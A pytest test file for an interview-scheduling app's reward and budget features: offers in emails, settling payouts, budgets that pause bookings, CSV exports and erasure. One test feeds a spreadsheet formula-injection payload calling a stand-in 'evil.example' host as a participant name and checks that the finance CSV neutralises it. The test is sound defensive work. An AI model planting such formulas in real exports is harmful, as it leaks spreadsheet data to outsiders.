"""Compensation: offers in every message, rewards owed on completion, the payout queue,
settling in one transaction, per-person offers and budgets that stop bookings."""

from __future__ import annotations

import csv
import html
import io
import threading
from datetime import timedelta
from decimal import Decimal

import pytest

from interviews.accounts import api_tokens
from interviews.accounts.rules import Role
from interviews.clock import utc_now
from interviews.compensation import budgets
from interviews.compensation import service as compensation
from interviews.compensation.models import Reward, RewardEvent
from interviews.compensation.rules import RewardStatus
from interviews.db import db
from interviews.errors import Conflict, InvalidInput
from interviews.flows import rewards as settling
from interviews.message_plan import MessageKind
from interviews.messaging import service as messaging
from interviews.messaging.models import OutboxMessage
from interviews.money import Money, Offer, RewardKind
from interviews.participants.models import Participant
from interviews.studies import service as studies
from interviews.studies.models import Study
from tests.conftest import (
    book_interview,
    give_offer,
    log_in,
    next_weekday_slot,
    started_minutes_ago,
)


def offer(app, study, kind="gift_card", amount="20.00", currency="USD", text="") -> None:
    give_offer(app, study["dana"], kind, amount, currency, text)


def study_id(app) -> int:
    with app.app_context():
        return db.session.scalar(db.select(Study.id).filter_by(slug="dashboards"))


def complete(client, app, interview_id: int, status: str = "completed") -> None:
    started_minutes_ago(app, interview_id, 50)
    response = client.post(f"/interviews/{interview_id}/attendance", data={"status": status})
    assert response.status_code == 302, response.get_data(as_text=True)


def completed_interviews(app, client, study, people) -> list[int]:
    """Book each (email, hour) and mark the interview completed; returns interview ids."""
    ids = []
    for email, hour in people:
        ids.append(book_interview(client, next_weekday_slot(hour), email=email)["interview_id"])
    log_in(client, study["dana"].email)
    for interview_id in ids:
        complete(client, app, interview_id)
    return ids


def rewards_of(app) -> list[Reward]:
    with app.app_context():
        rows = db.session.scalars(db.select(Reward).order_by(Reward.id)).all()
        db.session.expunge_all()
        return rows


def test_the_offer_is_on_the_booking_page_the_confirmation_and_each_reminder(
    app, client, study, sent_mail
):
    offer(app, study, text="your pick of Amazon or REI")
    page = client.get("/book/dashboards").get_data(as_text=True)
    assert "a $20.00 gift card (your pick of Amazon or REI)" in page
    booking = book_interview(client, next_weekday_slot(10))
    confirmation = next(m for m in sent_mail() if m.kind == "confirmation")
    assert (
        "As a thank-you: a $20.00 gift card (your pick of Amazon or REI)" in confirmation.text_body
    )
    with app.app_context():
        due = db.session.scalars(
            db.select(OutboxMessage.due_at).where(
                OutboxMessage.interview_id == booking["interview_id"],
                OutboxMessage.kind == MessageKind.REMINDER,
            )
        ).all()
        messaging.dispatch_due(max(due))
    reminders = [m for m in sent_mail() if m.kind == "reminder"]
    assert len(reminders) == 3
    assert all("As a thank-you: a $20.00 gift card" in m.text_body for m in reminders)
    manage = client.get(booking["manage_url"].replace("http://desk.test", "")).get_data(
        as_text=True
    )
    assert "a $20.00 gift card" in manage


def test_completing_an_interview_owes_its_reward_and_a_no_show_owes_nothing(app, client, study):
    offer(app, study)
    kept = book_interview(client, next_weekday_slot(10), email="kept@customer.example")
    missed = book_interview(client, next_weekday_slot(13), email="missed@customer.example")
    log_in(client, study["dana"].email)
    complete(client, app, kept["interview_id"])
    complete(client, app, kept["interview_id"])  # twice: still one reward
    complete(client, app, missed["interview_id"], "no_show")
    [reward] = rewards_of(app)
    assert reward.interview_id == kept["interview_id"]
    assert (reward.status, reward.amount_minor, reward.currency) == (RewardStatus.OWED, 2000, "USD")
    queue = client.get("/rewards").get_data(as_text=True)
    assert "Pat Customer" in queue or "kept@customer.example" in queue
    assert "missed@customer.example" not in queue

    page = client.get(f"/interviews/{missed['interview_id']}").get_data(as_text=True)
    assert "No-shows owe nothing" in page
    response = client.post(f"/interviews/{missed['interview_id']}/reward/grant")
    assert response.status_code == 302
    granted = [r for r in rewards_of(app) if r.interview_id == missed["interview_id"]]
    assert granted and granted[0].granted and granted[0].status is RewardStatus.OWED
    again = client.post(f"/interviews/{missed['interview_id']}/reward/grant", follow_redirects=True)
    assert "already has a reward" in again.get_data(as_text=True)


def test_an_interview_re_marked_a_no_show_withdraws_the_reward_it_owed(app, client, study):
    offer(app, study)
    [interview_id] = completed_interviews(app, client, study, [("pat@customer.example", 10)])
    complete(client, app, interview_id, "no_show")
    [reward] = rewards_of(app)
    assert reward.status is RewardStatus.WITHDRAWN
    with app.app_context():
        events = db.session.scalars(
            db.select(RewardEvent.to_status).where(RewardEvent.reward_id == reward.id)
        ).all()
    assert events == [RewardStatus.OWED, RewardStatus.WITHDRAWN]


def test_bulk_mark_sent_settles_both_records_who_and_emails_each_interviewee(
    app, client, study, sent_mail
):
    offer(app, study)
    completed_interviews(
        app, client, study, [("ana@customer.example", 10), ("ben@customer.example", 13)]
    )
    ids = [r.id for r in rewards_of(app)]
    response = client.post(
        "/rewards/settle",
        data={
            "reward_ids": [str(i) for i in ids],
            "action": "sent",
            "method": "AMZN-GIFT-7731-QX",
            "note": "Check your inbox for a message from Amazon.",
        },
    )
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "2 rewards marked sent. The interviewees are told it is on its way." in page
    rewards = rewards_of(app)
    assert {r.status for r in rewards} == {RewardStatus.SENT}
    assert all(r.method == "AMZN-GIFT-7731-QX" for r in rewards)  # stored whole
    detail = client.get(f"/rewards/{ids[0]}").get_data(as_text=True)
    assert "AMZN-GIFT-7731-QX" not in detail and "7-QX" not in detail
    assert "•" in detail and "31-QX"[-4:] in detail  # only the last four characters show
    assert "Owed → <strong>Sent</strong>" in detail and "Dana Reyes" in detail
    on_its_way = [m for m in sent_mail() if m.kind == "reward_sent"]
    assert sorted(m.recipient for m in on_its_way) == [
        "ana@customer.example",
        "ben@customer.example",
    ]
    assert all("is on its way: $20.00 as a gift card." in m.text_body for m in on_its_way)
    assert all("Check your inbox for a message from Amazon." in m.text_body for m in on_its_way)
    assert all("AMZN" not in m.text_body for m in on_its_way)


def test_a_batch_with_one_reward_not_owed_changes_nothing(app, client, study, sent_mail):
    offer(app, study)
    completed_interviews(
        app, client, study, [("ana@customer.example", 10), ("ben@customer.example", 13)]
    )
    first, second = (r.id for r in rewards_of(app))
    assert (
        client.post(
            "/rewards/settle", data={"reward_ids": [first], "action": "declined"}
        ).status_code
        == 302
    )
    response = client.post(
        "/rewards/settle", data={"reward_ids": [first, second], "action": "sent"}
    )
    assert response.status_code == 409
    assert f"Reward {first}: A reward that is declined cannot be marked sent" in response.get_data(
        as_text=True
    )
    statuses = {r.id: r.status for r in rewards_of(app)}
    assert statuses == {first: RewardStatus.DECLINED, second: RewardStatus.OWED}
    assert not [m for m in sent_mail() if m.kind == "reward_sent"]


@pytest.mark.parametrize("action", ["owed", "paid", ""])
def test_settling_to_a_state_that_is_not_an_end_is_refused(app, client, study, action):
    offer(app, study)
    completed_interviews(app, client, study, [("ana@customer.example", 10)])
    [reward] = rewards_of(app)
    response = client.post("/rewards/settle", data={"reward_ids": [reward.id], "action": action})
    assert response.status_code == 422
    assert rewards_of(app)[0].status is RewardStatus.OWED


def test_a_viewer_sees_the_queue_but_cannot_settle(app, client, study, add_member):
    offer(app, study)
    completed_interviews(app, client, study, [("ana@customer.example", 10)])
    viewer = add_member(study["dana"], role=Role.VIEWER, name="Vic Viewer")
    client.post("/logout")
    log_in(client, viewer.email)
    queue = client.get("/rewards").get_data(as_text=True)
    assert "$20.00" in queue and "Apply to the chosen rewards" not in queue
    [reward] = rewards_of(app)
    assert (
        client.post(
            "/rewards/settle", data={"reward_ids": [reward.id], "action": "sent"}
        ).status_code
        == 403
    )
    assert rewards_of(app)[0].status is RewardStatus.OWED


def test_the_finance_csv_keeps_amounts_exact_and_currencies_apart(app, client, study):
    offer(app, study, amount="19.99")
    ids = completed_interviews(app, client, study, [("ana@customer.example", 10)])
    with app.app_context():
        pid = db.session.scalar(db.select(Participant.id).filter_by(email="ana@customer.example"))
    executive = book_interview(
        client, next_weekday_slot(13), email="cfo@bigco.example", name="Chris Finance"
    )
    client.post(
        f"/participants/{pid}/offers",
        data={"study_id": study_id(app), "kind": "gift_card", "amount": "20", "currency": "usd"},
    )
    with app.app_context():
        cfo = db.session.scalar(db.select(Participant.id).filter_by(email="cfo@bigco.example"))
    response = client.post(
        f"/participants/{cfo}/offers",
        data={
            "study_id": study_id(app),
            "kind": "donation",
            "amount": "150.5",
            "currency": "EUR",
            "text": "to a charity of their choice",
        },
    )
    assert response.status_code == 302
    complete(client, app, executive["interview_id"])
    body = client.get("/rewards.csv?status=owed").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    by_email = {r["email"]: r for r in rows}
    assert by_email["ana@customer.example"]["amount"] == "19.99"  # owed before the override
    assert by_email["ana@customer.example"]["currency"] == "USD"
    assert (by_email["cfo@bigco.example"]["amount"], by_email["cfo@bigco.example"]["currency"]) == (
        "150.50",
        "EUR",
    )
    assert by_email["cfo@bigco.example"]["kind"] == "donation"
    assert len(ids) == 1


def test_a_name_typed_as_a_formula_reaches_the_finance_csv_as_text(app, client, study):
    offer(app, study)
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    booking = book_interview(client, next_weekday_slot(10), email="x@evil.example", name=attack)
    log_in(client, study["dana"].email)
    complete(client, app, booking["interview_id"])

    body = client.get("/rewards.csv?status=owed").get_data(as_text=True)

    row = next(csv.DictReader(io.StringIO(body)))
    assert row["participant"] == "'" + attack  # a spreadsheet shows it, never runs it
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body


def test_a_study_whose_budget_is_committed_stops_offering_times(app, client, study, sent_mail):
    offer(app, study)
    log_in(client, study["dana"].email)
    sid = study_id(app)
    assert (
        client.post(
            "/budgets", data={"study_id": sid, "currency": "USD", "amount": "40"}
        ).status_code
        == 302
    )
    book_interview(client, next_weekday_slot(10), email="ana@customer.example")
    day = next_weekday_slot(10).date().isoformat()
    slots = client.get(
        f"/api/v1/public/studies/dashboards/slots?from={day}&to={day}&timezone=Europe/Berlin"
    )
    assert slots.json["slots"], "one $20 reward still fits in $40 less $20 committed"
    book_interview(client, next_weekday_slot(13), email="ben@customer.example")

    slots = client.get(
        f"/api/v1/public/studies/dashboards/slots?from={day}&to={day}&timezone=Europe/Berlin"
    )
    assert slots.json["slots"] == []
    [paused] = [m for m in sent_mail() if m.kind == "budget_paused"]
    assert paused.recipient == study["dana"].email
    assert paused.subject == "Bookings paused: Northwind product interview about dashboards"
    assert "has $0.00 left after $40.00 committed" in paused.text_body
    refused = client.post(
        "/api/v1/public/studies/dashboards/bookings",
        json={
            "name": "Cy",
            "email": "cy@customer.example",
            "phone": "+1 415 555 2671",
            "timezone": "America/New_York",
            "start": next_weekday_slot(15).isoformat(),
        },
    )
    assert refused.status_code == 409
    assert refused.json["error"]["code"] == "budget_exhausted"
    assert "$" not in refused.json["error"]["message"]  # the interviewee is not told the numbers
    with app.app_context():
        assert (
            db.session.scalar(
                db.select(db.func.count())
                .select_from(Participant)
                .filter_by(email="cy@customer.example")
            )
            == 0
        )
    assert "not taking new bookings" in client.get("/book/dashboards").get_data(as_text=True)
    page = client.get(f"/studies/{sid}").get_data(as_text=True)
    assert (
        "New bookings are paused: this study's budget of $40.00 has $0.00 left after "
        "$40.00 committed, $0.00 owed and $0.00 paid, not enough for another $20.00 reward."
    ) in html.unescape(page)

    raised = client.post("/budgets", data={"study_id": sid, "currency": "USD", "amount": "60"})
    assert raised.status_code == 302
    assert client.get(
        f"/api/v1/public/studies/dashboards/slots?from={day}&to={day}&timezone=Europe/Berlin"
    ).json["slots"]


def test_a_workspace_budget_in_another_currency_covers_nothing_in_this_one(app, client, study):
    offer(app, study)
    log_in(client, study["dana"].email)
    client.post("/budgets", data={"study_id": "", "currency": "EUR", "amount": "1000"})
    with app.app_context():
        view = studies.get_study(study["dana"].workspace_id, study_id(app))
        reason = budgets.booking_block(view)
    assert (
        reason == "New bookings are paused: the workspace's budget has no USD for a $20.00 reward."
    )


def test_budget_lines_keep_committed_owed_and_paid_per_currency(app, client, study):
    offer(app, study)
    completed_interviews(
        app, client, study, [("ana@customer.example", 10), ("ben@customer.example", 13)]
    )
    first, _ = (r.id for r in rewards_of(app))
    client.post("/rewards/settle", data={"reward_ids": [first], "action": "sent"})
    book_interview(client, next_weekday_slot(15), email="cy@customer.example")
    client.post("/budgets", data={"study_id": study_id(app), "currency": "USD", "amount": "100"})
    with app.app_context():
        [line] = budgets.budget_lines(study["dana"].workspace_id, study_id(app))
    assert (line.allocated, line.committed, line.owed, line.paid, line.remaining) == (
        Money("USD", Decimal("100.00")),
        Money("USD", Decimal("20.00")),
        Money("USD", Decimal("20.00")),
        Money("USD", Decimal("20.00")),
        Money("USD", Decimal("40.00")),
    )
    page = client.get("/budgets").get_data(as_text=True)
    assert "$40.00" in page and "Cost per completed interview" in page
    next_week = next_weekday_slot(10) + timedelta(days=7)  # that day has its 3 calls
    no_show = book_interview(client, next_week, email="dee@customer.example")
    complete(client, app, no_show["interview_id"], "no_show")
    with app.app_context():
        figures = budgets.figures(study["dana"].workspace_id)
    assert [(month, totals.label()) for month, totals in figures.paid_per_month] == [
        (f"{utc_now():%Y-%m}", "$20.00")
    ]
    assert figures.cost_per_completed == {"USD": Money("USD", Decimal("20.00"))}
    assert [(r.label, r.completed, r.no_show) for r in figures.show_rates] == [("$20.00", 2, 1)]


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"reward_amount": "20,00"}, "with a dot for decimals"),
        ({"reward_currency": "XYZ"}, "ISO 4217"),
        ({"reward_amount": "0"}, "more than 0"),
        ({"reward_amount": "10.001"}, "at most 2 decimals"),
        ({"reward_currency": "JPY", "reward_amount": "1500.5"}, "at most 0 decimals"),
        ({"reward_amount": ""}, "with a dot for decimals"),
    ],
)
def test_the_study_form_refuses_a_reward_that_is_not_money(app, client, study, fields, message):
    log_in(client, study["dana"].email)
    sid = study_id(app)
    form = client.get(f"/studies/{sid}/edit").get_data(as_text=True)
    assert "Thank-you reward" in form
    data = {
        "title": "Northwind product interview about dashboards",
        "host_user_id": study["dana"].user_id,
        "duration_minutes": 45,
        "notice_hours": 12,
        "horizon_days": 30,
        "max_per_day": 3,
        "buffer_minutes": 30,
        "step_minutes": 30,
        "slug": "dashboards",
        "reward_kind": "gift_card",
        "reward_amount": "20",
        "reward_currency": "USD",
        **fields,
    }
    response = client.post(f"/studies/{sid}/edit", data=data)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Study, sid).reward_amount_minor is None  # nothing half-written


def test_services_refuse_illegal_moves_with_a_conflict(app, client, study):
    offer(app, study)
    completed_interviews(app, client, study, [("ana@customer.example", 10)])
    [reward] = rewards_of(app)
    with app.app_context():
        settling.settle(study["dana"], [reward.id], RewardStatus.DONATED)
        for target in (RewardStatus.SENT, RewardStatus.DECLINED, RewardStatus.WITHDRAWN):
            with pytest.raises(Conflict, match="donated cannot be marked"):
                settling.settle(study["dana"], [reward.id], target)
        with pytest.raises(InvalidInput):
            settling.settle(study["dana"], [], RewardStatus.SENT)
    assert [r.status for r in rewards_of(app)] == [RewardStatus.DONATED]


def test_a_persons_own_offer_is_in_their_invite_and_what_their_interview_owes(
    app, client, study, sent_mail
):
    offer(app, study)
    log_in(client, study["dana"].email)
    client.post(
        "/participants/new",
        data={
            "name": "Hannah Berg",
            "email": "hannah@bigco.example",
            "timezone": "Europe/Berlin",
            "role": "CFO",
        },
    )
    with app.app_context():
        hannah = db.session.scalar(
            db.select(Participant.id).filter_by(email="hannah@bigco.example")
        )
    client.post(
        f"/participants/{hannah}/offers",
        data={"study_id": study_id(app), "kind": "donation", "amount": "200", "currency": "USD"},
    )
    profile = client.get(f"/participants/{hannah}").get_data(as_text=True)
    assert "a $200.00 donation to a charity of your choice" in profile
    client.post(
        f"/participants/{hannah}/invite",
        data={"study_id": study_id(app), "note": "Would love your view."},
    )
    invite = next(m for m in sent_mail() if m.kind == "participant_invite")
    assert "a $200.00 donation to a charity of your choice" in invite.text_body
    with app.app_context():
        view = studies.get_study(study["dana"].workspace_id, study_id(app))
        assert compensation.offer_for(view, hannah) == Offer(
            RewardKind.DONATION, Money("USD", Decimal("200")), ""
        )


def test_a_data_export_lists_their_rewards_and_erasure_keeps_the_money_not_the_person(
    app, client, study
):
    offer(app, study)
    [interview_id] = completed_interviews(app, client, study, [("jane@acme.example", 10)])
    [reward] = rewards_of(app)
    client.post(
        "/rewards/settle",
        data={
            "reward_ids": [reward.id],
            "action": "sent",
            "method": "CODE-JANE-0042-XYZ",
            "note": "Pat Customer asked for it by email",
        },
    )
    with app.app_context():
        pid = db.session.scalar(db.select(Participant.id).filter_by(email="jane@acme.example"))
    exported = client.get(f"/api/v1/participants/{pid}/export", headers=_token(app, study))
    section = exported.json["rewards"]["rewards"]
    assert [(r["amount"], r["currency"], r["status"]) for r in section] == [
        ("20.00", "USD", "sent")
    ]
    assert "CODE-JANE-0042-XYZ" not in exported.get_data(as_text=True)
    assert [h["to"] for h in section[0]["history"]] == ["owed", "sent"]

    erased = client.post(f"/participants/{pid}/erase", data={"email": "jane@acme.example"})
    assert erased.status_code == 302
    [kept] = rewards_of(app)
    assert (kept.amount_minor, kept.currency, kept.status) == (2000, "USD", RewardStatus.SENT)
    assert kept.participant_id is None and kept.method == ""
    assert "Pat Customer" not in kept.note
    assert kept.interview_id == interview_id
    queue = client.get("/rewards?status=sent").get_data(as_text=True)
    assert "Erased participant" in queue and "jane@acme.example" not in queue


def _token(app, study) -> dict[str, str]:
    dana = study["dana"]
    with app.app_context():
        _, secret = api_tokens.create_api_token(dana.user_id, dana.workspace_id, "rewards")
    return {"Authorization": f"Bearer {secret}"}


def test_ten_people_marking_the_same_reward_at_once_settle_it_once(app, client, study, sent_mail):
    offer(app, study)
    completed_interviews(app, client, study, [("ana@customer.example", 10)])
    [reward] = rewards_of(app)
    barrier = threading.Barrier(10)
    outcomes: list[str] = []

    def racer() -> None:
        with app.app_context():
            barrier.wait()
            try:
                settling.settle(study["dana"], [reward.id], RewardStatus.SENT)
                outcomes.append("settled")
            except Conflict as error:
                outcomes.append(error.code)
            finally:
                db.session.remove()

    threads = [threading.Thread(target=racer) for _ in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert sorted(outcomes) == ["not_owed"] * 9 + ["settled"]
    with app.app_context():
        events = db.session.scalars(
            db.select(RewardEvent.to_status).where(RewardEvent.reward_id == reward.id)
        ).all()
    assert events == [RewardStatus.OWED, RewardStatus.SENT]
    assert len([m for m in sent_mail() if m.kind == "reward_sent"]) == 1


@pytest.mark.parametrize(
    ("kind", "note", "says"),
    [
        ("gift_card", "", "How it reaches you: The gift card comes in a separate email from"),
        (
            "gift_card",
            "Check your inbox for a message from Amazon.",
            "How it reaches you: Check your inbox for a message from Amazon.",
        ),
        ("product_credit", "", "How it reaches you: The credit is added to your account"),
    ],
)
def test_the_on_its_way_email_says_how_the_reward_reaches_the_person_never_the_code(
    app, client, study, sent_mail, kind, note, says
):
    offer(app, study, kind=kind)
    completed_interviews(app, client, study, [("ana@customer.example", 10)])
    response = client.post(
        "/rewards/settle",
        data={
            "reward_ids": [str(rewards_of(app)[0].id)],
            "action": "sent",
            "method": "AMZN-GIFT-7731-QX",
            "note": note,
        },
    )
    assert response.status_code == 302

    (told,) = [m for m in sent_mail() if m.kind == "reward_sent"]
    assert says in told.text_body
    assert says.replace("How it reaches you:", "How it reaches you:</strong>") in told.html_body
    assert "AMZN" not in told.text_body and "7731" not in told.text_body
    assert "AMZN" not in told.html_body
